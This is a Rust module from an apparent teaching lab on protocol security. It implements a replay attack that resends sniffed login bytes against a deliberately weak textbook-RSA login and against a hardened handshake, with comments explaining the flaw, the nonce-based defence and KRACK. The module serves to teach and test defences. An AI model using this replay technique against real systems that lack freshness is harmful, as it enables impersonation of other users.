//! Logs in as a user with a login that was recorded on the wire.
//!
//! # Flaw
//! The faithful login is textbook RSA of the username: no padding, no randomness, no value from the server, no time. So
//! a user's login has the same bytes every time, as long as the key lives.
//!
//! # Attack
//! Send the sniffed bytes again. The attack uses no key, not even a public one, and does not need the name. Against
//! hardened the attack replays the client's whole side: hello, proof and messages.
//!
//! # What it proves
//! If an eavesdropper can repeat a proof, the proof does not identify its sender. It does not help that only the user
//! could *make* it.
//!
//! # Defence
//! Both sides put fresh values into every handshake: `rc` and `rs`, and ephemeral X25519 values. Every key and the
//! client's signature depend on the whole transcript, including the *server's* fresh values. The old proof fits no new
//! session. Here the old proof does not even open, because the new session has other keys.
//!
//! # In the wild
//! KRACK, CVE-2017-13077: a *replayed* message of the WPA2 handshake made a client install a key a second time and
//! start its nonces again.

use tokio::io::AsyncWriteExt;

use crate::{
    Attack, Claim, Loot, Run, Story,
    capture::{dissect, trace::Side},
    peer::faithful_session,
    protocol::hardened::{defence::Defence, message::Hello},
    vantage::{Outsider, read_record, read_server_hello},
};

/// The registry's line.
pub const ATTACK: Attack = Attack {
    id: "login-replay",
    title: "log in with a sniffed login",
    vantage: "a sniffer of one honest session, and then a client of the server",
    loot: &[Loot::SniffedSession],
    returns_without: &[&[Defence::FreshServerValues]],
    run: Run::Dial {
        faithful: Some(|outsider, story| Box::pin(faithful(outsider, story))),
        hardened: |outsider, story| Box::pin(hardened(outsider, story)),
    },
    ..Attack::PLAIN
};

/// Left on the server as the victim's words.
const SAID: &str = "said by a recording";

async fn faithful(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let seen = dissect::faithful(&outsider.sniffed());
    story.tell(format!(
        "sniffed: a login of {} bytes; Mallory does not know its content",
        seen.login.len()
    ));
    story.tell("Mallory -> server: the same bytes");
    let mut inside = faithful_session(outsider, &seen.login).await?;
    story.tell("server -> Mallory: \"Authentication Successful!\", a session key and an IV");
    inside.say(SAID).await?;
    story.tell(format!("Mallory -> server: \"{SAID}\""));
    Ok(Claim::logged_in(outsider.user, Some(SAID)))
}

async fn hardened(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let (hello, rest) = hello_and_records(outsider);
    story.tell(format!(
        "sniffed: a hello of {} bytes and {} bytes of records",
        hello.len(),
        rest.len()
    ));
    let mut stream = outsider.dial.dial().await?;
    stream.write_all(&hello).await?;
    let server_hello = read_server_hello(&mut stream, &outsider.dialect).await?;
    let fresh = !(outsider.sniffed().stream(Side::Server)).starts_with(&server_hello);
    story.tell(format!(
        "Mallory -> server: the same hello; the server's answer is {}",
        if fresh {
            "different this time"
        } else {
            "the same as before"
        }
    ));
    read_record(&mut stream).await?;
    stream.write_all(&rest).await?;
    story.tell("Mallory -> server: the same proof and the same messages");
    read_record(&mut stream).await?;
    Ok(Claim::logged_in(outsider.user, None))
}

fn hello_and_records(outsider: &Outsider<'_>) -> (Vec<u8>, Vec<u8>) {
    let mut hello = outsider.sniffed().stream(Side::Client);
    let end = Hello::client_len(&*outsider.dialect.defences);
    let rest = hello.split_off(hello.len().min(end));
    (hello, rest)
}
